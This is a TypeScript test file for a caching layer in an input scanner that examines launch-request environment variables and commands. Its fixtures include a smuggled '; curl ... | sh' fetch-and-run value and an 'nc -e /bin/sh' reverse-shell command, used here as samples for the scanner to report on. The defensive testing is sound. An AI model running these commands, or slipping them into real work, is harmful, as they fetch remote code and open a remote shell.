import { describe, expect, it } from 'vitest';
import { findLanguage } from '../../test/fakes/languages.ts';
import { launchRequest } from '../../test/fakes/launches.ts';
import { examineInputs } from './examine-inputs.ts';
import { createInputMemory } from './input-memory.ts';

const variable = (value: string, name = 'SETTING', path = 'Env[0]') => ({ name, value, path });

describe('the memory of inputs', () => {
  it('looks once into what is the same, and anew into what is not', () => {
    const memory = createInputMemory();
    const looked: string[] = [];
    const look = (words: string) => memory.recall(words, () => looked.push(words));
    for (const words of ['a', 'b', 'a', 'a', 'b']) look(words);
    expect(looked).toEqual(['a', 'b']);
  });

  it('forgets what was not met for long, and keeps what was', () => {
    const memory = createInputMemory();
    let looks = 0;
    memory.recall('once', () => looks++);
    memory.recall('often', () => looks++);
    for (let n = 0; n < 9000; n++) {
      memory.recall(`another ${n}`, () => n);
      memory.recall('often', () => looks++);
    }
    expect(looks).toBe(2);
    memory.recall('once', () => looks++);
    expect(looks).toBe(3);
  });

  it.each([
    ['a harmless value', [variable('production')]],
    ['code', [variable('; curl http://files.example/x | sh')]],
    ['a secret by its name', [variable('Zq7-horse-battery', 'DB_PASSWORD')]],
    ['the same under another name', [variable('Zq7-horse-battery', 'NOTE')]],
    [
      'the same at another place',
      [variable('x', 'OTHER'), variable('; curl http://files.example/x | sh', 'SETTING', 'Env[1]')],
    ],
    [
      'a password that is the name of a user',
      [variable('captain', 'DB_USER'), variable('captain', 'DB_PASSWORD', 'Env[1]')],
    ],
    ['the same without that user', [variable('captain', 'DB_PASSWORD', 'Env[1]')]],
  ])('changes nothing of a report: %s', (_, environment) => {
    const memory = createInputMemory();
    const request = launchRequest({ environment });
    for (const strictness of [1, 2, 1] as const) {
      const report = examineInputs(request, { strictness, findLanguage });
      expect(examineInputs(request, { strictness, findLanguage, memory })).toEqual(report);
      expect(examineInputs(request, { strictness, findLanguage, memory })).toEqual(report);
    }
  });

  it('tells apart what stands before an argument, and what is started', () => {
    const memory = createInputMemory();
    const commands = [
      ['sh', '-c', 'id'],
      ['app', '-c', 'id'],
      ['app', '--password', 'Zq7-horse-battery'],
      ['app', '--note', 'Zq7-horse-battery'],
      ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'],
    ];
    for (const words of [...commands, ...commands]) {
      const request = launchRequest({ command: words.map((value, at) => ({ value, path: `Cmd[${at}]` })) });
      expect(examineInputs(request, { strictness: 1, findLanguage, memory })).toEqual(
        examineInputs(request, { strictness: 1, findLanguage }),
      );
    }
  });
});
